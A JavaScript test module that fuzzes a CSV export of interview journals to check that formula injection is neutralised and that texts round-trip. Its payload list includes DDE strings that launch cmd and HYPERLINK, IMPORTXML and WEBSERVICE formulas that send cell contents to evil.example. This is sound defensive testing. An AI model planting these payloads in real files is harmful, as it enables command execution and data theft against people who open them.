import { inside } from './inside.js';
import { journalWith } from './journalWith.js';
import { randomFrom } from './random.js';
import { recordOf } from './record.js';

/** What a spreadsheet takes for the beginning of a formula, also in full width; blanks and invisible signs before it do not stop all of them. */
const LIVE = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;
const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n@',
  ' =',
  '  +',
  "'=",
  "''=",
  '"=',
  '\u200b=',
  '\ufeff=',
  '\u00a0-',
  '\u202e=',
  '\u0000=',
  '%3D',
  ';=',
  ',=',
  '|=',
  '',
  "'",
];
const FORMULAS = [
  ...[
    "cmd|' /C calc'!A0",
    '1+1',
    'HYPERLINK("https://evil.example/?x="&A1,"Click")',
    'SUM(A1:A9)',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  ],
  ...[
    'WEBSERVICE("https://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    '1,2',
    '1;2',
    '"',
    '""',
    '","=1+1',
    '"\r\n=1+1,',
    '\n=1+1',
    '\r=1',
    '\r\n\r\n=1',
    ' ',
    'Why?',
    '纸鹤',
    '2026-11-20',
  ],
];
/** So many interviews a journal. */
const INTERVIEWS = 20;

/** Exports `size` hostile cells, reads the CSV by other means than the program's own, and holds every cell against what a spreadsheet runs; then reads the file into an empty journal, which must give the texts back. */
export async function csv(size, seed, step) {
  const random = randomFrom(seed);
  const record = recordOf(['live formulas', 'changed texts', 'crashes']);
  const { command, freshStore, readCsv } = await inside();
  for (let cells = 0; cells < size; ) {
    const journal = journalWith(INTERVIEWS, () => hostile(random));
    const { code, out, err } = await command(['export', '--format', 'csv', '--sort', 'kept'], { store: freshStore(journal), random });
    record.expect(code === 0, 'crashes', err);
    const rows = rowsOf(out);
    for (const row of rows) {
      for (const cell of row) record.expect(!LIVE.test(cell), 'live formulas', JSON.stringify(cell));
      cells += row.length;
      record.did('cells', row.length);
    }
    record.expect(
      rows.every((row) => row.length === rows[0].length),
      'changed texts',
      'rows of unequal length',
    );
    const texts = new Set(JSON.stringify(await readCsv(out)).match(/"(?:[^"\\]|\\.)*"/g));
    for (const { company, questions } of journal.interviews) {
      for (const text of [company, questions[0].text, questions[0].said])
        record.expect(texts.has(JSON.stringify(text)), 'changed texts', text);
      record.did('texts read again', 3);
    }
    step(cells / size);
  }
  return record.result();
}

/** A text as the journal keeps it: without blanks around it. */
function hostile({ pick, below }) {
  const text = `${pick(BEGINNINGS)}${pick(FORMULAS)}${below(3) ? '' : pick(FORMULAS)}`;
  return text.replace(/\r\n?/g, '\n').trim() || '=1';
}

/** The rows of a CSV by RFC 4180, one character after the other. */
function rowsOf(text) {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const sign = text[at];
    if (quoted && sign === '"' && text[at + 1] === '"') cell += text[++at];
    else if (sign === '"') quoted = !quoted;
    else if (!quoted && (sign === ',' || text.startsWith('\r\n', at))) {
      rows.at(-1).push(cell);
      cell = '';
      if (sign === ',') continue;
      at++;
      rows.push([]);
    } else cell += sign;
  }
  return rows.slice(0, -1);
}
